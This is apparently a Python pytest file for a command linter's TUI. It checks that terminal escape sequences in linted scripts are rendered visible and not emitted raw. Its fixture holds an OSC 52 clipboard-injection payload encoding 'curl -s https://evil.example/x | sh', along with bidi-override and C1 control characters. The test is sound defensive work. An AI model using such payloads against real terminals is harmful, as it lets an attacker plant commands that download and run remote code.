"""`dsv4 lint` never writes raw escapes from the linted text (issue 19, HIGH 2).

Linting a downloaded script used to set the tmux clipboard: an unknown flag or an env value
holding `ESC ] 52 ; c ; <base64> BEL` went raw into the findings (subject, message), and
`--json` printed raw C1 and bidi marks. Every text from outside now goes through
`core.visible` before a terminal: the text report, `--json` (as JSON escapes: the same data),
`print --check`, the errors, and the TUI's checks line and findings screen.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from dataclasses import replace

import pytest

from dsv4_tui import cli
from dsv4_tui.core.checks_view import CommandChecks
from dsv4_tui.host.lint_setup import make_linter

# "curl -s https://evil.example/x | sh " (no `=` padding: the flag keeps its BEL terminator)
OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gg\x07"
EVIL = (
    f"SGLANG_X={OSC52} sglang serve --model-path deepseek-ai/DeepSeek-V4-Flash --tp 8"
    f" --bogus-flag-{OSC52} --zz\x9b\u202e --mem-fraction-static '{OSC52}\x9b\u202e'"
    " --kv-cache-dtype \u2066fp8\u2069\n"
)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


@pytest.fixture
def evil(tmp_path):
    path = tmp_path / "evil.sh"
    path.write_text(EVIL, encoding="utf-8")
    return path


def _dsv4(*argv: str) -> tuple[int, bytes, bytes]:
    proc = subprocess.run(
        [sys.executable, "-m", "dsv4_tui", *argv], capture_output=True, timeout=120, stdin=subprocess.DEVNULL
    )
    return proc.returncode, proc.stdout, proc.stderr


@pytest.mark.parametrize("json_out", [False, True], ids=["text", "json"])
def test_lint_output_bytes_hold_no_raw_escape(evil, json_out):
    code, out, err = _dsv4("lint", *(["--json"] if json_out else []), str(evil))
    assert code == 3
    text = (out + err).decode("utf-8")
    assert RAW.findall(text) == []
    assert "--bogus-flag-" in text and "unknown-flag" in text  # the findings are all there
    if json_out:
        findings = json.loads(out)
        subjects = {f["subject"] for f in findings}
        assert f"--bogus-flag-{OSC52}" in subjects
        assert "--zz\x9b\u202e" in subjects  # the JSON escapes decode to the very text
    else:
        assert "--bogus-flag-\\x1b]52;c;" in text and "--zz\\x9b\\u202e" in text


def test_print_check_and_errors_are_visible_too(tmp_path, capsys):
    bad = tmp_path / f"x{OSC52}"
    assert cli.main(["lint", str(bad)]) == 2
    _, err = capsys.readouterr()
    assert RAW.findall(err) == [] and "\\x1b]52" in err


async def test_the_findings_screen_and_checks_line_render_no_raw_escape(rules):
    from textual.widget import Widget

    from dsv4_tui.app import DSV4App
    from dsv4_tui.core.lint import LintContext
    from dsv4_tui.screens.findings_screen import FindingsScreen

    linter = make_linter(rules, use_installed=False).linter
    reports, problems = linter.lint_text(EVIL, LintContext())
    reports = tuple(replace(r, checked_against=f"SGLang {OSC52}") for r in reports)
    checks = CommandChecks(reports, (*problems,), f"SGLang {OSC52}\u202e")
    assert any(RAW.search(f.message) for f in checks.findings)  # the attack is in the findings

    app = DSV4App(rules, detect=False)
    async with app.run_test(size=(110, 40)) as pilot:
        await app.background_started.wait()
        await app.workers.wait_for_complete()  # the app's own linter is ready: ours stays
        app.deploy_checks = checks
        await pilot.pause()
        await app.push_screen(FindingsScreen(checks, True, False))
        await pilot.pause()
        rendered = []
        for screen in (app.screen_stack[0], app.screen):
            for widget in screen.query(Widget):
                for y in range(widget.size.height):
                    rendered.append(widget.render_line(y).text)
        text = "\n".join(rendered)
        assert "bogus-flag-" in text and "\\x1b]52" in text
        assert RAW.findall(text) == []
